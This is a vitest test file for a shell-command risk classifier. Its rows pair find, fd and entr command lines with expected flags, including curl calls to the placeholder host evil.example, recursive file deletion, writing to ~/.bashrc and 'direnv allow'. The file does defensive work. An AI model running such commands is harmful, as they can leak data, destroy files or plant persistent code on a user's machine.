// What the specs of find say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["find . -name '*.ts' -not -path './node_modules/*'", ""],
  ["find . -exec curl http://evil.example {} \\;", "network"],
  ["find . -type f -exec rm {} +", "destructive"],
  ["find . -name '*.c' -delete", "destructive"],
  ["find . -name '*.o' -delete", ""],
  ["find . ! -name '*.o' -delete", "destructive"],
  ["find . -name '*.o' -o -delete", "destructive"],
  ["find . -not '(' -name '*.o' -o -name x ')' -exec rm {} +", "destructive"],
  ["find . -fprint ~/.bashrc", "persistence"],
  ["fd -e ts -x curl http://evil.example", "network"],
  ["fd -e ts foo", ""],
  ["ls | entr curl http://evil.example", "network"],
  ["direnv allow", "hidden-code"],
];

describe("find", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
